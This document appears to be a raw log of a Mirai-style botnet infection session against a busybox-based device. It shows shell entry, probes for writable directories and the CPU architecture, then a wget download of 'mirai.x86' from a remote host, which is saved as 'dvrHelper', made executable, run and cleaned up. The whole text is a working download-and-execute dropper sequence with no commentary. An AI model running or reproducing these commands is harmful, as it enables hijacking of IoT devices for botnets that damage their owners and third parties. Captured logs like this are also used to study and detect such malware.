enable
system
shell
sh
/bin/busybox ECCHI
/bin/busybox cat /proc/mounts | /bin/busybox head -n 1; /bin/busybox ECCHI
/bin/busybox echo -e '\x6b\x61\x6d\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon
/bin/busybox echo -e '\x6b\x61\x6d\x69/proc' > /proc/.nippon; /bin/busybox cat /proc/.nippon; /bin/busybox rm /proc/.nippon
cd /tmp; /bin/busybox cp /bin/echo upnp; >upnp; /bin/busybox chmod 777 upnp; /bin/busybox ECCHI
/bin/busybox dd bs=52 count=1 if=/bin/echo 2>/dev/null | /bin/busybox head -c 4 | /bin/busybox od -c | /bin/busybox head -n 1
while read i; do echo $i; done < /bin/echo | /bin/busybox head -c 4 | /bin/busybox wc -c
timeout 2 /bin/busybox wget http://198.51.100.7:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI
./dvrHelper telnet.x86; /bin/busybox IHCCE
rm -rf upnp; > dvrHelper; /bin/busybox ECCHI
